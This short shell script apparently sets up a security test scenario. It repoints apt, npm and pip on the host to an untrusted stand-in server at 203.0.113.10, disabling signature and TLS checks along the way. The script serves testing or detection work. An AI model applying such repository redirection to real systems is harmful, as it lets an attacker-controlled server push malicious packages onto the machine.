#!/bin/sh
. /opt/case/case.sh

echo 'deb [trusted=yes] http://203.0.113.10/debian stable main' >/etc/apt/sources.list.d/updates.list
printf 'registry=http://203.0.113.10/npm/\nstrict-ssl=false\n' >/root/.npmrc
mkdir -p /root/.config/pip
printf '[global]\nindex-url = http://203.0.113.10/pypi\n' >/root/.config/pip/pip.conf
took_place
